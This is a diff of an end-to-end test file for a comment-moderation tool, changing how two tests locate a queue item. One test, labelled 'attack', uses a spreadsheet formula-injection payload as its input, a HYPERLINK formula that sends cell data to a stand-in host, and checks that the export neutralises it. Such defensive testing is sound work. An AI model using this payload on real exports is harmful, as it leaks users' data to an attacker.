@@ -15,7 +15,7 @@ test('what a moderator decided stands in the log as a sentence that leads to all
   const [article, author] = [await givenArticle(), await givenReader()]
   const { id } = await givenComment(author, article)
   const { page, reader: moderator } = await signedIn('moderator')
-  const item = await findInQueue(page, author.name)
+  const item = await findInQueue(page, author)
   await item.getByLabel('A word to the author').fill('Say it again without the names.')
   await item.getByRole('button', { name: 'Reject' }).click()
   await page.getByRole('link', { name: 'Log', exact: true }).click()
@@ -106,7 +106,7 @@ test('attack: a name and a note that are formulas come out of the export as text
   const { id } = await givenComment(author, article)
   const { request } = await signedIn('editor')
   const { page } = await signedIn('moderator')
-  const item = await findInQueue(page, author.name)
+  const item = await findInQueue(page, author)
   await item.getByLabel('A word to the author').fill(`=HYPERLINK("https://evil.example/?"&A1)`)
   await item.getByRole('button', { name: 'Reject' }).click()
   await expect(page.getByRole('status')).toContainText('Rejected')
